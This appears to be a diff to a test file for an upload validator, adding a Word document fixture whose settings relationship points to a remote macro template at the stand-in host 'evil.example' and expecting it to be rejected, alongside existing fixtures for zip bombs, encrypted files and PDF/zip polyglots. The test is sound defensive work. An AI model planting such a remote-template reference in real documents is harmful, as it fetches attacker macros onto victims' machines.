@@ -82,6 +82,11 @@ test('what is not its name, not taken, locked, or two things at once is refused 
     '[Content_Types].xml': '<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
     'word/document.xml': '<d/>',
   });
+  const template = await zip({
+    '[Content_Types].xml': '<Types/>',
+    'word/document.xml': '<d/>',
+    'word/_rels/settings.xml.rels': '<Relationship Target="https://evil.example/a.dotm" TargetMode="External"/>',
+  });
   const huge = Buffer.from(png);
   huge.writeUInt32BE(60_000, 16);
   huge.writeUInt32BE(60_000, 20);
@@ -101,6 +106,7 @@ test('what is not its name, not taken, locked, or two things at once is refused 
     ['file.encrypted', Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)]), '加密.docx'],
     ['file.macros', vba, '宏.docx'],
     ['file.macros', macroTyped, '宏.docx'],
+    ['file.macros', template, '远程模板.docx'],
     ['file.unsound', bomb, '炸弹.docx'],
     ['file.unsound', Buffer.from('%PDF-1.4\n'), '半截.pdf'],
     ['file.twoInOne', Buffer.concat([pdf(), await zip({ 'a.js': 'x' })]), '双面.pdf'],
